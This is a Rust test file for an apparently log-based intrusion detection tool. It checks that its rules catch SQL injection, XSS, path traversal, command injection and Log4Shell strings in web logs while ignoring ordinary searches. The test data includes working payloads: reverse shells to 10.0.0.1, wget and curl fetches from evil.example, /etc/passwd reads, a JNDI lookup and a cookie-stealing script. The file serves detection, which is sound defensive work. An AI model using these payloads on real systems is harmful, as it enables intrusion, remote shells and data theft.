//! The shipped rules: each fires on what it is for, in both formats, and stays quiet on what people
//! do every day.

use std::{
    borrow::Cow,
    collections::BTreeSet,
    sync::{Arc, LazyLock},
};

use sentinel::{
    engine::{Engine, Now, State},
    line::Line,
    rule::RuleSet,
    time::{Span, Timestamp},
};
use shared::{
    Alert,
    alert::Observer,
    record::{Record, Value, action},
};

const TIME: &str = "2026-01-20T10:05:00.120Z";

/// Compiled once for all tests.
fn rules() -> &'static Arc<RuleSet> {
    static RULES: LazyLock<Arc<RuleSet>> = LazyLock::new(|| parsed().into());
    &RULES
}

fn parsed() -> RuleSet {
    let text = include_str!("../../rules/default.toml");
    let (rules, faults) = RuleSet::parse(&[("rules/default.toml".into(), text.into())]);
    let faults: Vec<_> = faults.iter().map(ToString::to_string).collect();
    assert!(faults.is_empty(), "{}", faults.join("\n"));
    rules.unwrap()
}

/// The ids of the rules that a line matches.
fn hits(rules: &RuleSet, line: &str) -> BTreeSet<String> {
    let mut hits = BTreeSet::new();
    rules.scan(&rules.view("any"), line.as_bytes(), &mut |rule, fields| {
        let rule = &rules.rules[rule];
        let message = rule.message(fields, 1);
        assert!(!message.is_empty());
        hits.insert(rule.id.clone());
    });
    hits
}

/// A request as webapp records it.
fn record(path: &str, query: &str) -> Record {
    Record {
        timestamp: TIME.into(),
        level: "info".into(),
        message: "request answered".into(),
        dataset: "webapp.requests".into(),
        action: action::REQUEST.into(),
        outcome: Some("success".into()),
        sequence: 4711,
        duration: Some(404_500_429),
        service_name: "webapp".into(),
        service_version: "0.1.0".into(),
        request_id: Some("4d5be40840450042961b0a7f3c2f4040".into()),
        method: Some("GET".into()),
        status_code: Some(200),
        response_body_bytes: Some(404),
        http_version: Some("1.1".into()),
        path: Some(path.into()),
        query: Some(query.into()).filter(|query: &String| !query.is_empty()),
        client_ip: Some("192.0.2.1".into()),
        peer_address: Some("192.0.2.1".into()),
        user_agent: Some(BROWSER.into()),
        trace_id: Some("0af7651916cd43dd8448eb211c80319c".into()),
        ..Record::default()
    }
}

const BROWSER: &str = "Mozilla/5.0 (Linux; Android 14; K) AppleWebKit/537.36 (KHTML, like Gecko) \
                       Chrome/126.0.0.0 Mobile Safari/537.36";

fn json(record: &Record) -> String {
    serde_json::to_string(record).unwrap()
}

/// The same request as nginx logs it.
fn combined(path: &str, query: &str) -> String {
    let query = if query.is_empty() { String::new() } else { format!("?{query}") };
    format!(
        "192.0.2.1 - - [20/Jan/2026:10:05:00 +0000] \"GET {path}{query} HTTP/1.1\" 200 404 \
         \"https://shop.example/\" \"{BROWSER}\""
    )
}

/// In which of the two formats a rule fails to see an attack.
fn unseen(rule: &str, path: &str, query: &str) -> Vec<String> {
    let lines = [json(&record(path, query)), combined(path, query)];
    lines.into_iter().filter(|line| !hits(rules(), line).contains(rule)).collect()
}

/// Percent-encodes everything but letters and digits.
fn encoded(text: &str) -> String {
    let byte = |byte: u8| match byte {
        b' ' => "+".to_owned(),
        _ if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
        _ => format!("%{byte:02X}"),
    };
    text.bytes().map(byte).collect()
}

/// Each attack encoded, encoded twice, and in the path.
#[track_caller]
fn attacks(rule: &str, typed: &[&str]) {
    let mut missed = Vec::new();
    for text in typed {
        let once = encoded(text);
        missed.extend(unseen(rule, "/search", &format!("q={once}")));
        missed.extend(unseen(rule, "/search", &format!("q={}&page=2", encoded(&once))));
        missed.extend(unseen(rule, &format!("/items/{}", once.replace('+', "%20")), ""));
        // In suspicious.log the same request is not counted again.
        let again = Record { dataset: "webapp.suspicious".into(), ..record("/", &once) };
        assert_eq!(hits(rules(), &json(&again)), BTreeSet::new());
    }
    assert!(missed.is_empty(), "{rule} misses:\n{}", missed.join("\n"));
}

#[test]
fn sql_is_seen() {
    attacks(
        "sql-injection",
        &[
            "1' OR 1=1--",
            "1' OR '1'='1",
            "1 or 1=1",
            "' or ''='",
            "' or 'a'='a",
            "\" or \"a\"=\"a",
            "') or ('a'='a",
            "\"or\"1\"=\"1",
            "'or'1'='1'--",
            "' or true--",
            "' or 1#",
            "' oR 1=1 /*",
            "1'/**/or/**/1=1/**/--",
            "1'\tor\t1=1",
            "1 and 1=2",
            "1) and (5=5",
            "' AND 1 LIKE 1",
            "1' and (select 1)=1",
            "x' and email is null; --",
            "x' or username like '%a%",
            "' || 1=1",
            "'||'a'||'",
            "' or not false#",
            "a,(select (case when (1=1) then 1 else 0 end))",
            "x rlike (select 1)",
            "chr(113)||chr(122)",
            "x and !sleep(1)",
            "admin'--",
            "admin' #",
            "admin'/*",
            "1' union select null,null--",
            "1 UNION ALL SELECT 1,2,3",
            "1/**/UnIoN/**/SeLeCt/**/password/**/from/**/users",
            "-1 /*!50000union*/ /*!50000select*/ 1,2",
            "1 union(select(1),2)",
            "1 union select user()",
            "1 union\nselect @@version",
            "1 union--x\nselect 1",
            "1 union distinct select 'a'",
            "1; drop table users",
            "1';insert into users values (1)",
            "1; exec xp_cmdshell('dir')",
            "(select password from users limit 1)",
            "1 and ascii(substring((select database()),1,1))>64",
            "1' order by 3--",
            "1 group by x having 1=1",
            "1' and sleep(5)--",
            "1-sleep(5)",
            "1;waitfor delay '0:0:5'",
            "1 and benchmark(5000000,md5(1))",
            "1' and extractvalue(1,concat(0x7e,version()))",
            "1 from information_schema.tables",
            "char(113,118,98)",
            "load_file('/etc/hosts')",
            "x into outfile '/tmp/x'",
        ],
    );
}

#[test]
fn script_is_seen() {
    attacks(
        "xss",
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js>",
            "\"><script >x</script >",
            "</script><svg/onload=alert(1)>",
            "<img src=x onerror=alert(1)>",
            "\" onfocus=alert(1) autofocus x=\"",
            "' onmouseover = 'x",
            "<iframe src=x>",
            "<body onload=x()>",
            "<details open ontoggle=x>",
            "<a href=\"javascript:alert(1)\">",
            "javascript:alert(document.domain)",
            "javascript://\nalert(1)",
            "javascript:/*x*/alert`1`",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "new Image().src='//e.example/'+document.cookie",
            "String.fromCharCode(88)",
            "';alert('x');//",
            "&#x6a;&#x61;&#x76;ascript",
            "&#106;&#97;&#118;a",
            "<x srcdoc=y>",
            "<math><a xlink:href=x>",
        ],
    );
}

#[test]
fn traversal_is_seen() {
    attacks(
        "path-traversal",
        &[
            "../../etc/passwd",
            "../../../../windows/win.ini",
            "..\\..\\boot.ini",
            "/static/../../x",
            "../.env",
            "....//....//etc/hosts",
            "..;/..;/manager/html",
            "/etc/passwd",
            "/proc/self/environ",
            "/WEB-INF/web.xml",
            "php://filter/convert.base64-encode/resource=x",
            "file:///x",
        ],
    );
    for path in ["/%c0%ae%c0%ae/%c0%af", "/..%c0%afx", "/x%00.png", "/%252e%252e/%252e%252e/x"] {
        assert_eq!(unseen("path-traversal", path, ""), Vec::<String>::new());
    }
}

#[test]
fn shell_commands_are_seen() {
    attacks(
        "command-injection",
        &[
            ";cat /etc/hosts",
            "x; cat /etc/passwd",
            "x|cat /etc/passwd",
            "x | id http/",
            "&& ls -la",
            "127.0.0.1;id",
            "127.0.0.1;whoami",
            "127.0.0.1|whoami",
            "127.0.0.1 && ping -c 3 x.example",
            "|wget http://evil.example/x.sh",
            ";curl -s evil.example",
            "x\nwget http://evil.example/x",
            "$(id)",
            "$(cat /etc/passwd)",
            "`id`",
            "`wget x.example`",
            "cat${IFS}/x",
            ";cat$IFS/x",
            "; sleep 5",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "bash -i >& /dev/tcp/10.0.0.1/4444",
            "echo x|base64 -d|sh",
            "cmd.exe /c dir",
            "powershell -enc AAAA",
            "x=/bin/bash",
            "() { :; }; echo x",
            "() { :;};x",
        ],
    );
}

#[test]
fn jndi_lookups_are_seen() {
    attacks(
        "log4shell",
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}di:x}",
            "${${env:X:-j}ndi:x}",
            "${JNDI:rmi://x}",
        ],
    );
    let agent = Record { user_agent: Some("${jndi:dns://x}".into()), ..record("/", "") };
    assert!(hits(rules(), &json(&agent)).contains("log4shell"));
}

#[test]
fn what_people_do_is_left_alone() {
    let rules = rules();
    let mut wrong = Vec::new();
    for (path, query) in [
        ("/", ""),
        ("/health", ""),
        ("/search", "q=rock+and+roll"),
        ("/search", "q=rock+%27n%27+roll"),
        ("/search", "q=select+a+size"),
        ("/search", "q=select+a+size+from+the+list"),
        ("/search", "q=union+select+committee"),
        ("/search", "q=European+Union"),
        ("/search", "q=1+or+2"),
        ("/search", "q=salt+and+pepper&size=2"),
        ("/search", "q=this+or+that+%3D+fun"),
        ("/search", "name=O%27Brien"),
        ("/search", "name=O'Brien+and+sons"),
        ("/search", "q=O%27Hara+union+selected+a+speaker+from+a+list"),
        ("/search", "q=1950%27+and+60%27s+coats"),
        ("/search", "q=12%27+or+14%27+boat"),
        ("/search", "q=size+7%27%23+shoes"),
        ("/search", "q=%22red%22+and+%22blue%22"),
        ("/search", "q=2+3%2F4%22+-+vintage+--new"),
        ("/search", "q=case+for+when+then"),
        ("/search", "q=%3Cb%3Ebold%3C%2Fb%3E"),
        ("/search", "name=D%27Angelo+or+D%27Arcy"),
        ("/search", "q=it%27s+%22quoted%22+text"),
        ("/search", "q=5%22+screen+and+6%22+screen"),
        ("/search", "q=drop+table+lamps"),
        ("/search", "q=create+table+settings%3B+delete+them"),
        ("/search", "q=insert+coin"),
        ("/search", "q=group+by+having+fun"),
        ("/search", "q=order+by+5+pm"),
        ("/search", "q=update+from+2+to+3"),
        ("/search", "q=sleep+aid"),
        ("/search", "q=price+%3C+100"),
        ("/search", "q=a+%3C+b+and+b+%3E+c"),
        ("/search", "q=1%2B1%3D2"),
        ("/search", "q=c%2B%2B+%26+c%23"),
        ("/search", "q=javascript%3A+the+good+parts"),
        ("/search", "q=java+script+tutorial"),
        ("/search", "q=online%3Dyes&once=1&only=2&onsale=true"),
        ("/search", "q=be+once%3D1"),
        ("/search", "q=alert+(red)"),
        ("/search", "q=window+cleaner"),
        ("/search", "q=%3Cthree+%3C3"),
        ("/search", "q=me+%26+you;+cat+food"),
        ("/search", "q=cats%3B+dogs%3B+id+cards"),
        ("/search", "q=curl+hair;+wget"),
        ("/search", "q=%24100+(sale)"),
        ("/search", "q=%24(document).ready"),
        ("/search", "q=100%25+wool"),
        ("/search", "q=a%7Cb"),
        ("/search", "q=%C3%A9t%C3%A9"),
        ("/list", "id=5&cat=2&ls=1&sh=x&env=prod&type=a&dir=desc"),
        ("/list", "fields=name|id&sort=-date"),
        ("/list", "tags[]=a&tags[]=b"),
        ("/list", "from=2026-01-01&to=2026-02-01"),
        ("/list", "filter=%7B%22price%22%3A%7B%22lt%22%3A10%7D%7D"),
        ("/login", "next=%2Faccount%2Fsettings"),
        ("/login", "next=https%3A%2F%2Fshop.example%2Fcart"),
        ("/login", "token=[redacted]"),
        ("/x", "id=0f8fad5b-d9cb-469f-a165-70867728950e"),
        ("/x", "sig=MEUCIQDx%2Bab%2F8Zk%3D%3D"),
        ("/x", "data=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"),
        ("/x", "state=PHN0YXRlPg%3D%3D"),
        ("/a..b/c...d", ""),
        ("/compare/v1.2...v1.3/files", ""),
        ("/files/..hidden", ""),
        ("/docs/../index.html", ""),
        ("/assets/app.min.js", "v=1.2.3"),
        ("/wiki/SQL_(language)", ""),
        ("/wiki/Command-line_interface", ""),
        ("/environment/gitlab", ""),
        ("/.well-known/acme-challenge/abc", ""),
        ("/favicon.ico", ""),
    ] {
        for line in [json(&record(path, query)), combined(path, query)] {
            let hits = hits(rules, &line);
            if !hits.is_empty() {
                wrong.push(format!("{hits:?}: {line}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn everyday_agents_and_referrers_are_left_alone() {
    let rules = rules();
    for agent in [
        "curl/8.9.1",
        "Wget/1.21.4",
        "python-requests/2.32.3",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
        "Mozilla/5.0 (Linux; U; Android 13; en-us; SH-M24 Build/S1) Mobile",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "kube-probe/1.30",
        "Prometheus/2.53.0",
    ] {
        for referrer in ["https://www.google.com/", "https://shop.example/search?q=salt+and+pepper"]
        {
            let record = Record {
                user_agent: Some(agent.into()),
                referrer: Some(referrer.into()),
                ..record("/", "")
            };
            assert_eq!(hits(rules, &json(&record)), BTreeSet::new(), "{agent} {referrer}");
        }
    }
}

/// A record of an event, and the rules that must match it.
#[track_caller]
fn event(record: &Record, expected: &[&str]) {
    let rules = rules();
    let expected: BTreeSet<_> = expected.iter().map(|id| (*id).to_owned()).collect();
    assert_eq!(hits(rules, &json(record)), expected, "{record:?}");
}

fn refused(action: &str, status: u16) -> Record {
    let outcome = Some("failure".into());
    Record { action: action.into(), status_code: Some(status), outcome, ..record("/", "") }
}

#[test]
fn refusals_are_counted_once() {
    for (action, status, rule) in [
        (action::RATE_LIMITED, 429, "rate-limit-storm"),
        (action::BLOCKED, 429, "rate-limit-storm"),
        (action::CSRF_REJECTED, 403, "csrf-refusals"),
        (action::CORS_REJECTED, 403, "cors-refusals"),
        (action::ORIGIN_REJECTED, 403, "cors-refusals"),
        (action::NOT_FOUND, 404, "path-scan"),
        (action::UNAUTHORIZED, 401, "login-failures"),
        (action::QUERY_REJECTED, 400, "malformed-requests"),
        (action::BAD_REQUEST, 400, "malformed-requests"),
        (action::HEADER_TIMEOUT, 408, "slow-requests"),
        (action::BODY_TIMEOUT, 408, "slow-requests"),
        (action::HANDLER_TIMEOUT, 503, "server-error-burst"),
        (action::UPSTREAM_UNAVAILABLE, 503, "server-error-burst"),
    ] {
        let request = refused(action, status);
        event(&request, &[rule]);
        event(&Record { dataset: "webapp.suspicious".into(), ..request.clone() }, &[]);
        event(&Record { dataset: "webapp.errors".into(), ..request }, &[]);
    }
}

#[test]
fn single_events_speak_for_themselves() {
    event(&Record { query_odd_secret: true, ..record("/", "token=x") }, &["odd-secret"]);
    let sqlmap = Some("sqlmap/1.8.6#stable (https://sqlmap.org)".into());
    event(&Record { user_agent: sqlmap, ..record("/", "") }, &["scanner-agent"]);
    let trace = Record { method: Some("TRACE".into()), ..refused(action::METHOD_NOT_ALLOWED, 405) };
    event(&trace, &["unusual-method"]);
    event(&refused(action::NOT_FOUND, 404), &["path-scan"]);
    event(&Record { path: Some("/.git/config".into()), ..record("/", "") }, &["sensitive-file"]);
    let encoded = Some("/%2egit/config".into());
    event(&Record { path: encoded, ..record("/", "") }, &["sensitive-file"]);
}

#[test]
fn what_goes_wrong_in_webapp_is_told_from_the_logs_it_stands_in() {
    let error = |action: &str| Record {
        dataset: "webapp.errors".into(),
        level: "error".into(),
        action: action.into(),
        timestamp: TIME.into(),
        ..Record::default()
    };
    let mut lost = error(action::LOG_LOSS);
    lost.other.insert("dropped".into(), Value::Count(7));
    lost.other.insert("stream".into(), Value::Text("requests".into()));
    lost.other.insert("since".into(), Value::Text(TIME.into()));
    event(&lost, &["log-loss"]);
    let told = alerts([lost].into_iter(), json);
    assert_eq!(told[0].message, format!("7 records of requests were lost since {TIME}"));
    event(&error(action::PANIC), &["panic"]);
    event(&error(action::STARTUP), &[]);
    let beat = |level: &str| Record { level: level.into(), ..error(action::HEARTBEAT) };
    event(&beat("info"), &[]);
    let mut full = beat("warn");
    full.reason = Some("connections were shed".into());
    event(&full, &["at-capacity"]);
    let told = alerts([full].into_iter(), json);
    assert_eq!(told[0].message, "webapp had no room: connections were shed");
    event(&spoofed(), &["spoofed-forwarded-header"]);
    event(
        &Record { dataset: "webapp.suspicious".into(), ..refused(action::BLOCK_ENDED, 200) },
        &[],
    );
}

#[test]
fn access_logs_are_counted_by_status() {
    let rules = rules();
    for (status, rule) in [
        (429, "rate-limit-storm"),
        (404, "path-scan"),
        (401, "login-failures"),
        (400, "malformed-requests"),
        (408, "slow-requests"),
        (502, "server-error-burst"),
    ] {
        let line = combined("/", "").replace("\" 200 404 ", &format!("\" {status} 0 "));
        assert_eq!(hits(rules, &line), BTreeSet::from([rule.to_owned()]), "{line}");
    }
    let binary = combined("/", "").replace("GET / HTTP/1.1\" 200", "\\x16\\x03\\x01\" 400");
    assert_eq!(hits(rules, &binary), BTreeSet::from(["malformed-requests".to_owned()]));
}

#[test]
fn a_broken_record_hides_nothing() {
    let line = json(&record("/", "q=%3Cscript%3E"));
    let rules = rules();
    for cut in 1..line.len() {
        let Some(half) = line.get(..cut) else { continue };
        if half.contains("%3Cscript%3E") {
            assert!(hits(rules, half).contains("xss"), "{half}");
        }
    }
    let mut bytes = line.into_bytes();
    bytes.extend_from_slice(b"\xff\xfe");
    let mut seen = false;
    rules.scan(&rules.view("any"), &bytes, &mut |rule, _| seen |= rules.rules[rule].id == "xss");
    assert!(seen);
}

/// The alerts of requests that come one a second, each as webapp or as nginx logs it.
fn alerts(requests: impl Iterator<Item = Record>, written: fn(&Record) -> String) -> Vec<Alert> {
    let observer =
        Observer { name: "sentinel".into(), version: "0".into(), hostname: "test".into() };
    let mut engine = Engine::new(Arc::clone(rules()), State::default(), observer);
    let origin = engine.origin(1, "requests", "requests.log");
    let mut alerts = Vec::new();
    let start = Timestamp::parse(TIME).unwrap();
    for (second, request) in (0..).zip(requests) {
        let timestamp = start.plus(Span::seconds(second)).rfc3339();
        let line = written(&Record { timestamp, ..request });
        let line = Line { offset: 0, bytes: Cow::Borrowed(line.as_bytes()), unmatched: None };
        engine.line(&origin, &line, Now::Replay, &mut |alert| alerts.push(alert));
    }
    alerts
}

/// The record as nginx would have logged it.
fn access_log(record: &Record) -> String {
    let at = jiff::Timestamp::from_microsecond(Timestamp::parse(&record.timestamp).unwrap().0);
    let at = jiff::fmt::strtime::format("%d/%b/%Y:%H:%M:%S +0000", at.unwrap()).unwrap();
    format!(
        "{} - - [{at}] \"{} {} HTTP/1.1\" {} 404 \"-\" \"{BROWSER}\"",
        record.client_ip.as_deref().unwrap(),
        record.method.as_deref().unwrap(),
        record.path.as_deref().unwrap(),
        record.status_code.unwrap(),
    )
}

/// `gte` such requests raise one alert of the rule, one fewer none, and two clients do not add up.
#[track_caller]
fn threshold(
    rule: &str,
    gte: usize,
    request: impl Fn(usize) -> Record,
    written: fn(&Record) -> String,
) {
    let many = |count: usize| alerts((0..count).map(&request), written);
    assert_eq!(many(gte - 1), [], "{rule} below its threshold");
    let raised = many(gte);
    let ids: Vec<_> = raised.iter().map(|alert| &*alert.rule.id).collect();
    assert_eq!(ids, [rule]);
    let alert = &raised[0];
    assert_eq!(alert.count, gte as u64);
    assert!(alert.message.contains(&gte.to_string()), "{}", alert.message);
    if alert.group.is_empty() {
        return;
    }
    assert_eq!(alert.group["client.ip"], "192.0.2.1");
    let others = (0..2 * (gte - 1))
        .map(|n| Record { client_ip: Some(format!("192.0.2.{}", n % 2)), ..request(n / 2) });
    assert_eq!(alerts(others, written), [], "{rule} adds up clients");
}

#[test]
fn thresholds_are_reached_by_the_last_one() {
    let refused = |action: &'static str, status| move |_| refused(action, status);
    let missing = |n: usize| Record {
        path: Some(format!("/missing/{n}")),
        ..refused(action::NOT_FOUND, 404)(n)
    };
    threshold("rate-limit-storm", 20, refused(action::BLOCKED, 429), json);
    threshold("path-scan", 15, missing, json);
    threshold("login-failures", 20, refused(action::UNAUTHORIZED, 401), json);
    threshold("csrf-refusals", 5, refused(action::CSRF_REJECTED, 403), json);
    threshold("cors-refusals", 5, refused(action::CORS_REJECTED, 403), json);
    threshold("malformed-requests", 10, refused(action::BAD_REQUEST, 400), json);
    threshold("slow-requests", 10, refused(action::BODY_TIMEOUT, 408), json);
    threshold("server-error-burst", 10, refused(action::HANDLER_TIMEOUT, 503), json);
    // Of an access log, by the status alone.
    threshold("rate-limit-storm", 20, refused(action::REQUEST, 429), access_log);
    threshold("path-scan", 15, missing, access_log);
    threshold("login-failures", 20, refused(action::UNAUTHORIZED, 401), access_log);
    threshold("malformed-requests", 10, refused(action::REQUEST, 400), access_log);
    threshold("slow-requests", 10, refused(action::REQUEST, 408), access_log);
    threshold("server-error-burst", 10, refused(action::REQUEST, 502), access_log);
}

#[test]
fn the_same_missing_path_again_is_no_scan() {
    let requests = (0..100).map(|_| refused(action::NOT_FOUND, 404));
    assert_eq!(alerts(requests, json), []);
}

#[test]
fn an_attack_alerts_at_once_and_then_folds() {
    let attack = |n: usize| record("/search", &format!("q=%27+or+{n}%3D{n}--"));
    let raised = alerts((0..50).map(attack), json);
    let messages: Vec<_> = raised.iter().map(|alert| &*alert.message).collect();
    assert_eq!(messages, ["SQL from 192.0.2.1: GET /search q=%27+or+0%3D0--"]);
}

fn spoofed() -> Record {
    Record {
        dataset: "webapp.suspicious".into(),
        action: action::SPOOFED_FORWARDED_HEADER.into(),
        ..record("/", "")
    }
}

#[test]
fn every_rule_is_complete() {
    let rules = rules();
    for rule in &rules.rules {
        assert_ne!(rule.title, rule.id, "{} has no title of its own", rule.id);
    }
    assert_eq!(rules.rules.len(), 21);
}
